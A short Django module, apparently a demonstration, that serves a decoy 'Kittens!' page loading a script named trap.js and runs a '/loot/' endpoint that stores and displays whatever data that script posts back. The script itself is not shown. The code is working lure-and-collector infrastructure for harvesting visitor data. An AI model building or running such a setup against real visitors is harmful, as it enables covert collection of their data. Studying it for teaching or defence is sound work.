"""A harmless page, its script, and what the script has brought home."""

import json
from pathlib import Path

from django.http import HttpRequest, HttpResponse, JsonResponse
from django.urls import path

PAGE = '<!doctype html><title>Kittens</title><h1>Kittens!</h1><script src="/trap.js"></script>'
SCRIPT = Path(__file__).with_name("trap.js")
loot = []


def kittens(request: HttpRequest) -> HttpResponse:
    """Show the page; `/still/` is the same without its script."""
    return HttpResponse(PAGE if request.path == "/" else PAGE.partition("<script")[0])


def script(request: HttpRequest) -> HttpResponse:
    """Serve the page's script."""
    return HttpResponse(SCRIPT.read_text("utf-8"), content_type="text/javascript")


def keep(request: HttpRequest) -> HttpResponse:
    """Take what the script brings; show what there is."""
    if request.method == "POST":
        loot.append(json.loads(request.body))
    return JsonResponse({"loot": loot})


urlpatterns = [
    path("", kittens),
    path("still/", kittens),
    path("trap.js", script),
    path("loot/", keep),
]
